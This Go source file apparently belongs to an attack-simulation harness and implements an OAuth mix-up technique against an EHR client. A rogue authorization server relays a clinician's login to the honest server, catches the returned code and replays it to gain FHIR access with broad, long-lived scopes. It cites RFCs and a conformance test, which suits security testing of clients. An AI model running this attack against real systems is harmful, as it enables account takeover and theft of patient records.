package attacker

import (
	"context"
	"net/http"
	"net/url"

	"thiefbox/sim/event"
)

var _ = register("X-01", Technique{
	Title: "Mix-up: a code of the honest server is carried to the dishonest one",
	Story: "The EHR also signs people in at a regional server, which the thief runs. A clinician begins there; his server sends her " +
		"browser on to the honest one, as the EHR. She signs in as every day. The EHR takes the answer for the regional server's and carries " +
		"the code there. The thief puts it into a sign-in of his own.",
	Reads: []string{"RFC 9700 s4.4", "RFC 9207 s1", "OIDF conformance suite, invalid-authorization-response-iss"},
	Needs: []event.Vantage{event.RogueAS},
	Run: func(ctx context.Context, g Ground) error {
		honest, err := discover(ctx, g, g.Target().Issuer)
		if err != nil {
			return err
		}
		own, err := beginSignIn(ctx, g)
		if err != nil {
			return err
		}
		ro := newRogue(g)
		ro.front = func(w http.ResponseWriter, r *http.Request, asked url.Values) {
			onward := url.Values{
				"response_type": {"code"}, "client_id": {g.Target().ClientID}, "redirect_uri": {g.Target().ClientCallback},
				"scope": {"openid offline_access user/*.rs"}, "state": {asked.Get("state")}, "nonce": {asked.Get("nonce")},
				"resource": {g.Target().FHIRBase},
			}
			if mode := asked.Get("response_mode"); mode != "" {
				onward.Set("response_mode", mode)
			}
			http.Redirect(w, r, honest.AuthorizationEndpoint+"?"+onward.Encode(), http.StatusSeeOther)
		}
		ro.open()
		if err := g.Lure(g.Target().ClientLogin + ro.meta.Issuer); err != nil {
			return err
		}
		code := ro.lastToken().Get("code")
		if code == "" {
			return ErrStopped
		}
		_, err = g.Browser().Visit(ctx, withCode(own, code), "")
		return err
	},
})
